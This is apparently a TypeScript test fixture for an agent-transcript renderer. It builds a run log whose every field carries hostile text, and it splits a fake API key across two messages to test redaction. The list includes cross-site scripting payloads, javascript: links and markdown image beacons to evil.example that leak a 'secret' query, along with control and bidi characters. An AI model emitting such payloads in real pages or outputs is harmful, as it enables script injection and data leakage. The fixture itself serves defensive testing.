import type { Envelope } from "@baton/protocol/core";
import { logBuilder } from "./events.ts";

/** A secret the redactor knows; the corpus splits it across two streamed messages. */
export const CORPUS_SECRET = "sk-live-4f9a1b2c3d4e5f60718293a4b5c6d7e8";

/** Text that tries every way known to turn into markup, a load, a link or a closed `<details>`. */
export const HOSTILE_TEXTS = [
  "<script>alert('x')</script>",
  "<img src=x onerror=alert(1)>",
  "</details></summary><script>alert(2)</script><details>",
  "![leak](https://evil.example/pixel.png?q=secret)",
  "![leak][ref]\n\n[ref]: https://evil.example/ref.png",
  "[click me](javascript:alert(3)) and [site](https://evil.example/)",
  "<https://evil.example/auto> and https://evil.example/bare and www.evil.example and //evil.example/x",
  "<a href=\"https://evil.example\">a</a><iframe src=\"https://evil.example\"></iframe>",
  "&lt;script&gt;alert(4)&lt;/script&gt; &#60;img src=x onerror=alert(5)&#62;",
  "# Heading\n\n    indented code\n---\n| a | b |\n|---|---|\n| 1 | 2 |\n```html\n<script>alert(6)</script>\n```",
  "control \u001b[31mred\u001b[0m \u0007 bell \u202eevil\u202c \u0000 nul \r\n crlf",
  "<!-- comment --> <style>body{background:url(https://evil.example/css)}</style> <svg onload=alert(7)>",
  "<details open><summary>fake</summary>x</details>",
  "<pre>early</pre><img src=https://evil.example/after-pre.png>",
  "write to ops@evil.example, <ops+x@evil.example>, mailto:ops@evil.example or xmpp:ops@evil.example/home",
];

/** A run whose task, prose, reasoning, tool titles, arguments, file names and outputs are hostile. */
export function hostileRun(): { events: Envelope[]; outputs: Map<string, string> } {
  const log = logBuilder();
  const outputs = new Map<string, string>();
  const all = HOSTILE_TEXTS.join("\n");
  log.add("run.created", { number: 1, task: `Fix it ${HOSTILE_TEXTS[3]} ${HOSTILE_TEXTS[1]}`, agent: "fake<img src=x>", repo: { root: "/repo", dirty: false } });
  log.add("turn.started", { session: "s1", turn: 1, reason: "task" });
  for (const text of HOSTILE_TEXTS) log.add("agent.message", { session: "s1", turn: 1, text });
  log.add("agent.message", { session: "s1", turn: 1, text: `the key is ${CORPUS_SECRET.slice(0, 15)}` });
  log.add("agent.message", { session: "s1", turn: 1, text: `${CORPUS_SECRET.slice(15)} ok` });
  log.add("agent.thought", { session: "s1", turn: 1, text: all });
  HOSTILE_TEXTS.forEach((text, i) => {
    const call = `c_${i}`;
    const file = `outputs/${i}-<img src=x onerror=alert(1)>.txt`;
    outputs.set(file, `${text}\n${all}`);
    log.add("tool.started", { session: "s1", call, tool: `bash${text.slice(0, 20)}`, kind: "execute", title: text, input: { command: text } });
    log.add("tool.completed", { session: "s1", call, tool: "bash", status: "completed", is_error: false, duration_ms: 3, exit_code: 1, output_chars: 10, preview: text, output_file: file });
  });
  log.add("turn.completed", { session: "s1", turn: 1, stop_reason: HOSTILE_TEXTS[0] ?? "", duration_ms: 5 });
  log.add("git.committed", { sha: "abc", branch: "b", message: HOSTILE_TEXTS[2] ?? "", files: [{ path: HOSTILE_TEXTS[1], change: "added" }] });
  log.add("run.failed", { error: { code: "x", message: HOSTILE_TEXTS[5] ?? "" } });
  return { events: log.events, outputs };
}

/** How many `<details>` the transcript of {@link hostileRun} opens: one per tool call, one for the reasoning. */
export const HOSTILE_DETAILS = HOSTILE_TEXTS.length + 1;
